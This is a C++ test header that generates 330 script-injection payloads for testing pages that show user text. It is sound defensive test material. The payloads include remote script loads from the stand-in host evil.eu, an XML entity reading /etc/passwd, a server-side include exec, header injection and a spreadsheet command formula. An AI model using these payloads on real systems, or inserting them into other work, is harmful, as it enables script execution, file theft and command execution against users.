// Payloads for script injection: what is tried against pages that show other people's text.
//
// Bases from the usual collections (OWASP's cheat sheet for filter evasion, HTML5 attributes that run script, XML, templates,
// bidirectional and control characters), each behind what leaves text, an attribute, a title, a comment, a script, a section
// of XML: 330 in all, always the same.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace izvor::testing {

inline std::vector<std::string> injection_payloads() {
  using namespace std::string_view_literals;
  constexpr std::string_view kBases[] = {"<script>alert(1)</script>"sv,
                                         "<ScRiPt src=//evil.eu/x.js></sCrIpT>"sv,
                                         "<script\x0btype=module>import('//evil.eu')</script>"sv,
                                         "<script>/*"sv,
                                         "<<script>alert(1)//<</script>"sv,
                                         "<img src=x onerror=alert(1)>"sv,
                                         "<img/src='x'/onerror='alert(1)'>"sv,
                                         "<svg onload=alert(1)>"sv,
                                         "<svg><script>alert(1)</script></svg>"sv,
                                         "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>"sv,
                                         "<svg><animate onbegin=alert(1) attributeName=x></svg>"sv,
                                         "<math><mtext><table><mglyph><style><img src onerror=alert(1)>"sv,
                                         "<a href=javascript:alert(1)>x</a>"sv,
                                         "<a href='  java\tscript:alert(1)'>x</a>"sv,
                                         "<a href=data:text/html,<script>alert(1)</script>>x</a>"sv,
                                         "<iframe src=javascript:alert(1)></iframe>"sv,
                                         "<iframe srcdoc='<script>alert(1)</script>'></iframe>"sv,
                                         "<object data=//evil.eu/x.swf></object>"sv,
                                         "<embed src=//evil.eu/x>"sv,
                                         "<base href=//evil.eu/>"sv,
                                         "<link rel=stylesheet href=//evil.eu/x.css>"sv,
                                         "<style>@import '//evil.eu/x.css';</style>"sv,
                                         "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"sv,
                                         "<form action=//evil.eu><button formaction=javascript:alert(1)>x</button>"sv,
                                         "<input autofocus onfocus=alert(1)>"sv,
                                         "<details open ontoggle=alert(1)>"sv,
                                         "<video><source onerror=alert(1)></video>"sv,
                                         "<body onload=alert(1)>"sv,
                                         "<div style=background:url(javascript:alert(1))>"sv,
                                         "<x onclick=alert(1)>x</x>"sv,
                                         "<template><script>alert(1)</script></template>"sv,
                                         "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"sv,
                                         "<mark onmouseover=alert(1)>"sv,
                                         "{{{content}}}<script>alert(1)</script>{{#x}}"sv,
                                         "{{constructor.constructor('alert(1)')()}}"sv,
                                         "${alert(1)}<!--#exec cmd='ls'-->"sv,
                                         "&lt;script&gt;alert(1)&lt;/script&gt;"sv,
                                         "&#60;script&#62;alert(1)&#60;/script&#62;"sv,
                                         "%3Cscript%3Ealert(1)%3C/script%3E"sv,
                                         "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"sv,
                                         "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"sv,
                                         "\xEF\xBC\x9Cscript\xEF\xBC\x9E"
                                         "alert(1)\xEF\xBC\x9C/script\xEF\xBC\x9E"sv,
                                         "\xE2\x80\xAE<script>alert(1)</script>\xE2\x80\xAC"sv,
                                         "\x01\x02<scr\x03ipt>alert(1)</script>"sv,
                                         "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;"sv,
                                         "<?xml-stylesheet href='//evil.eu/x.xsl'?>"sv,
                                         "<xsl:script xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>alert(1)</xsl:script>"sv,
                                         "javascript:alert(1)//"sv,
                                         " \tjavascript\n:alert(1)"sv,
                                         "vbscript:msgbox(1)"sv,
                                         "//evil.eu/%2e%2e/"sv,
                                         "onmouseover=alert(1) x="sv,
                                         "alert`1`;throw onerror=alert,1"sv,
                                         "\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>"sv,
                                         "='+cmd|' /C calc'!A0"sv};
  constexpr std::string_view kWaysOut[] = {
      ""sv, "\"'>"sv, "</title></a></h2>-->"sv, "]]></summary>"sv, "');//</script>"sv, "\" autofocus onfocus=\"alert(1)"sv};
  std::vector<std::string> payloads;
  for (const std::string_view way_out : kWaysOut)
    for (const std::string_view base : kBases) payloads.push_back(std::string(way_out) + std::string(base));
  return payloads;
}

}  // namespace izvor::testing
